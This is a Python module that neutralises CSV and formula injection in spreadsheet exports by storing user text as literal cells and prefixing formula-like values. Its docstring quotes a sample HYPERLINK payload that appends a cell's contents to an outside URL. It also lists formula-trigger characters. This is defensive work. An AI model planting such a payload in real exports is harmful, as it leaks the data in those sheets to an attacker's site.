"""Writing what users typed into spreadsheets and CSV files without it ever becoming a formula.

Why: a name, a note or a unit title set to ``=HYPERLINK("http://…"&B3,"点此查看")`` through a page
or the API would come out of an export as a live formula (CSV/formula injection): one click
sends the sheet's data to another site. Every export writes its rows through ``append`` (XLSX)
or ``csv_row`` (CSV), so no cell that came from a user is evaluated:

- in XLSX every text value is stored as text (never a formula), and text that starts like a
  formula is also marked with Excel's quote prefix, so editing the cell does not turn it on;
- in CSV, text that starts like a formula gets a leading apostrophe, the usual neutraliser
  (a CSV has no types: Excel and WPS evaluate ``=``, ``+``, ``-``, ``@`` at the start).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell

# What spreadsheet programs take as the start of a formula (full-width forms included: WPS and
# Excel with a Chinese input method accept them), and the control characters that precede one.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def literal(sheet: Any, value: Any) -> Any:
    """``value`` ready for ``sheet.append``: text becomes a text cell (with the quote prefix when it
    starts like a formula); numbers, dates, None and cells pass as they are."""
    if not isinstance(value, str):
        return value
    cell = Cell(sheet, row=1, column=1, value=value)  # append places it (as openpyxl's WriteOnlyCell)
    cell.data_type = "s"
    if looks_like_formula(value):
        cell.quotePrefix = True
    return cell


def append(sheet: Any, values: Iterable[Any]) -> None:
    """Append one row to an openpyxl worksheet (normal or write-only), every text cell literal."""
    sheet.append([literal(sheet, value) for value in values])


def csv_text(value: Any) -> Any:
    """A CSV cell: text that starts like a formula gets a leading apostrophe."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_text(value) for value in values]
